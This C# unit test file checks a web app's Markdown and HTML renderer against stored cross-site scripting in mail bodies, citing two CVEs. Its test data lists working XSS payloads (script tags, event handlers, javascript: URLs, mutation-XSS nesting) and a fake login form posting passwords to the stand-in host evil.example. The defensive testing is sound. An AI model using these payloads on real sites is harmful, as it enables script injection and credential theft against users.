using System.Text.RegularExpressions;
using AngleSharp.Html.Parser;
using Frontline.Components.Shared;

namespace Frontline.Tests.Security;

/// <summary>
/// The one renderer every page uses for text people send (portal, API and, once it exists, mail). The mail
/// channel must show message bodies through it, so these are the e-mail half of the stored-XSS CVEs.
/// </summary>
public sealed class RenderedTextTests
{
    private readonly MarkdownRenderer renderer = new();

    public static TheoryData<string> HtmlMailBodies => new()
    {
        "<html><head><script>alert(1)</script><style>body{background:url(javascript:alert(2))}</style></head><body>Hi</body></html>",
        "<p onclick=\"alert(1)\">Hi</p><img src=x onerror=alert(1)><svg/onload=alert(1)>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe><object data=\"javascript:alert(1)\"></object><embed src=x.swf>",
        "<form action=\"https://evil.example/steal\"><input name=password><button formaction=javascript:alert(1)>Sign in</button></form>",
        "<base href=\"https://evil.example/\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\"><link rel=stylesheet href=x>",
        "<a href=\"javascript:alert(1)\">a</a><a href=\"JaVaScRiPt&colon;alert(1)\">b</a><a href=\"vbscript:msgbox(1)\">c</a><a href=\"data:text/html,<script>alert(1)</script>\">d</a>",
        "[a](javascript:alert(1)) [b](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![c](javascript:alert(1))",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    };

    [Theory]
    [MemberData(nameof(HtmlMailBodies))]
    public void Cve_2018_1000154_and_Cve_2021_21441_an_html_mail_body_renders_without_anything_that_runs_or_leaves_the_page(string body)
    {
        var html = renderer.Render(body).Value;

        var document = new HtmlParser().ParseDocument("<body>" + html + "</body>");
        var elements = document.Body!.QuerySelectorAll("*");
        Assert.DoesNotContain(elements, e => e.LocalName is "script" or "style" or "iframe" or "object" or "embed" or "form" or "input" or "button"
            or "base" or "meta" or "link" or "svg" or "math" or "noscript");
        var attributes = elements.SelectMany(e => e.Attributes).ToList();
        Assert.DoesNotContain(attributes, a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase) || a.Name is "style" or "formaction" or "srcdoc");
        Assert.DoesNotContain(attributes, a => a.Name is "href" or "src" or "action" && !Regex.IsMatch(a.Value.Trim(), "^(https?:|mailto:|[^:]*$)", RegexOptions.IgnoreCase));
    }

    [Fact]
    public void Links_in_rendered_text_open_apart_from_the_desk_and_keep_their_text()
    {
        var html = renderer.Render("See [the status page](https://status.example.com) for details.").Value;

        Assert.Contains("href=\"https://status.example.com\"", html, StringComparison.Ordinal);
        Assert.Contains("rel=\"noopener noreferrer nofollow\"", html, StringComparison.Ordinal);
        Assert.Contains("the status page", html, StringComparison.Ordinal);
    }
}
